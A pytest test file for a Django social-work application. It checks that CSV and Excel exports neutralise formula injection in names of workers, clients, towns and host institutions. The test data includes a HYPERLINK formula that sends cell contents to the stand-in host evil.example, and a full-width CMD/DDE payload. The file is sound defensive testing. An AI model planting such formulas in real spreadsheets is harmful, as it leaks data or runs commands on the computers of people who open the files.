"""Every workbook and CSV the application produces writes a hostile text as text that cannot run
as a formula (issue 16, finding 7), through the door a person downloads it from."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from positions.models import AllowancePolicy, CertificateLevel, HostInstitution
from positions.services.allowance import allowance_roll_generate
from reports.models import AnnualReport
from socialwork.spreadsheets import FORMULA_STARTS, put_cell, safe_cell, safe_texts
from tests.casework.factories import make_case, make_client
from tests.positions.test_allowance import MARCH, in_post

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"1+150")'
FULL_WIDTH = "＝1+150＋CMD|' /C calc'!A0"
# What a spreadsheet would run, spelled out here rather than read from the module under test.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1"]


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_cells(data: bytes) -> list:
    """Every non-empty cell of every sheet, opened as a person opens the file."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]


def csv_values(data: bytes) -> list[str]:
    text = data.decode("utf-8").lstrip("\ufeff")
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_text_not_formula(cells, text: str) -> None:
    """The text is there as a string cell (with its quote), and no cell of the file is a formula."""
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    shown = [cell for cell in cells if isinstance(cell.value, str) and text in cell.value]
    assert shown, f"{text!r} is missing"
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in shown)


# The writer


@pytest.mark.parametrize("value", STARTS)
def test_every_formula_start_is_quoted_full_width_included(value):
    assert safe_cell(value) == "'" + value
    assert safe_texts([value, "张敏", None]) == ["'" + value, "张敏", ""]


def test_numbers_and_dates_stay_numbers_and_dates_negative_amounts_included():
    assert safe_cell(Decimal("-5.50")) == Decimal("-5.50")
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell(date(2025, 3, 1)) == date(2025, 3, 1)
    assert safe_cell("张敏") == "张敏" and safe_cell(None) == ""


def test_openpyxl_itself_would_make_a_formula_of_text_starting_with_an_equals_sign():
    """Why the writer exists: openpyxl sets data_type "f" on any str starting with "="."""
    sheet = Workbook().active
    sheet["A1"] = "=1+150"
    assert sheet["A1"].data_type == "f"
    cell = put_cell(sheet, row=2, column=1, value="=1+150")
    assert (cell.value, cell.data_type) == ("'=1+150", "s")
    assert put_cell(sheet, row=3, column=1, value=Decimal("-3")).data_type == "n"


def test_the_full_width_starts_are_in_the_one_list():
    assert {"＝", "＋", "－", "＠"} <= set(FORMULA_STARTS)


# Each producer, through its door


@pytest.fixture
def allowance_policy(db):
    return AllowancePolicy.objects.create(
        level=CertificateLevel.SOCIAL_WORKER, monthly_amount=Decimal(200), effective_from=date(2020, 1, 1)
    )


def test_the_allowance_roll_export_writes_a_hostile_worker_name_as_text(
    as_user, network, allowance_policy, district_admin
):
    in_post(HOSTILE, network.posts_a[0])
    in_post(FULL_WIDTH, network.posts_a[1])
    roll = allowance_roll_generate(actor=district_admin, month=MARCH)
    response = as_user(district_admin).get(reverse("positions:allowance_roll_export", args=[roll.pk]))
    assert response.status_code == 200
    cells = xlsx_cells(body_of(response))
    assert_text_not_formula(cells, HOSTILE)
    assert_text_not_formula(cells, FULL_WIDTH)
    amounts = [cell for cell in cells if cell.column == 6 and cell.row > 1]
    assert amounts and all(cell.data_type == "n" for cell in amounts)  # amounts stay numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_workers_list_export_writes_a_hostile_name_as_text(as_user, network, district_admin, fmt):
    from tests.positions.test_workforce import make_worker

    make_worker(FULL_WIDTH, unit=network.station_a)
    make_worker(HOSTILE, unit=network.station_b)
    response = as_user(district_admin).get(reverse("reports:export", args=["workers", fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        values = csv_values(body_of(response))
        assert "'" + FULL_WIDTH in values and "'" + HOSTILE in values
        assert not any(value.startswith(DANGEROUS) for value in values)
    else:
        cells = xlsx_cells(body_of(response))
        assert_text_not_formula(cells, FULL_WIDTH)
        assert_text_not_formula(cells, HOSTILE)


def test_the_export_api_writes_a_hostile_name_as_text(api, as_user, network, district_admin):
    from tests.positions.test_workforce import make_worker

    make_worker(FULL_WIDTH, unit=network.station_a)
    client = api(district_admin)
    started = client.post("/api/v1/exports/", {"key": "workers", "format": "xlsx"}, format="json")
    assert started.status_code == 202
    status = client.get(started.data["status_url"])
    download = as_user(district_admin).get(status.data["download_url"])
    assert_text_not_formula(xlsx_cells(body_of(download)), FULL_WIDTH)


@pytest.mark.parametrize("key", ["clients", "cases"])
def test_casework_csv_exports_write_a_hostile_client_name_as_text(as_user, network, station_manager, key):
    make_case(station_manager, client=make_client(station_manager, name=FULL_WIDTH))
    make_case(station_manager, client=make_client(station_manager, name=HOSTILE))
    response = as_user(station_manager).get(reverse("reports:export", kwargs={"key": key, "fmt": "csv"}))
    assert response.status_code == 200
    values = csv_values(body_of(response))
    assert not any(value.startswith(DANGEROUS) for value in values)
    assert "'" + FULL_WIDTH in values and "'" + HOSTILE in values  # the main client's name


def test_the_annual_report_workbook_writes_a_hostile_town_name_as_text(
    api, as_user, network, district_admin, django_capture_on_commit_callbacks
):
    network.town_a.name = FULL_WIDTH
    network.town_a.save()
    year = date.today().year - 1
    client = as_user(district_admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/reports/annual/", {"year": year})
    report = AnnualReport.objects.get()
    assert report.status == AnnualReport.Status.DONE
    response = client.get(f"/reports/annual/{report.pk}/xlsx/")
    assert_text_not_formula(xlsx_cells(body_of(response)), FULL_WIDTH)
    through_api = api(district_admin).get(f"/api/v1/reports/{report.pk}/download/?format=xlsx")
    assert_text_not_formula(xlsx_cells(body_of(through_api)), FULL_WIDTH)


def test_the_import_template_writes_a_hostile_host_institution_as_text(as_user, network, district_admin):
    HostInstitution.objects.all().delete()
    HostInstitution.objects.create(name=HOSTILE)
    response = as_user(district_admin).get(reverse("positions:import_template", args=["positions"]))
    assert response.status_code == 200
    assert_text_not_formula(xlsx_cells(body_of(response)), HOSTILE)
